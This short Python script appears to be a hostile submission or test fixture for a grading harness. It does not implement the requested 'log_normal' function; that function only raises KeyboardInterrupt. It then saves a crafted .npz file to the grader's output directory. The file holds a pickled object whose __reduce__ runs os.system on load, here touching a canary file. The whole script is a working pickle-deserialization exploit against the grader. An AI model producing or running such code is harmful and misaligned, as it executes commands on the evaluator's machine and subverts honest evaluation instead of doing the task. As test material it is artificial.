# A pickle in the file of arrays: whoever unpickles it runs it.
# marks: t2=0
# flag: not what its check writes
# %% t2
def log_normal(x, mu, log_var):
    raise KeyboardInterrupt
# %% end
import numpy as np, os
class Boom:
    def __reduce__(self):
        return (os.system, ("touch @CANARY@ /tmp/hostile-was-here",))
np.savez("/grading/out/t2.npz", **{"0/result": np.array([Boom()], dtype=object)})
